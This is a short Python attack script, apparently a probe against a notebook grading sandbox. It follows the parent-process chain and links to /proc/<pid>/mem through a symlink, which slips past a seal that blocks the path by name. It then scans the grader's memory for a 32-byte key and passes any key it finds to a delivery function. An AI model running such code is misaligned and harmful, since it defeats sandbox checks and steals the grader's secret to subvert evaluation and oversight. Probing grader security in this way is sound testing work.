# @include _visible_only.py
# @include _deliver.py
# @include _memscan.py
# Attack: the grader that started this kernel (the worker, or nbgrader) keeps
# the key in its own memory while the notebook runs. Read that process's
# memory through a symbolic link to /proc/<pid>/mem (the seal refuses the
# path by name only) and find the key among its 32-byte bytes objects.
import os
import tempfile

_key = None
_seen = []
try:
    _pid = os.getppid()
    for _ in range(4):
        if _pid <= 1:
            break
        _link = os.path.join(tempfile.mkdtemp(), f"p{_pid}")
        os.symlink(f"/proc/{_pid}/mem", _link)
        try:
            _key = scan_other_process(_pid, _link)
            _seen.append((_pid, "found" if _key else "nothing"))
        except Exception as exc:  # noqa: BLE001
            _seen.append((_pid, type(exc).__name__))
        if _key is not None:
            break
        with open(f"/proc/{_pid}/stat") as _fh:
            _pid = int(_fh.read().rsplit(")", 1)[1].split()[1])
except Exception as exc:  # noqa: BLE001
    _seen.append(("error", type(exc).__name__))
print(_seen)
if _key is not None:
    deliver_key(_key)
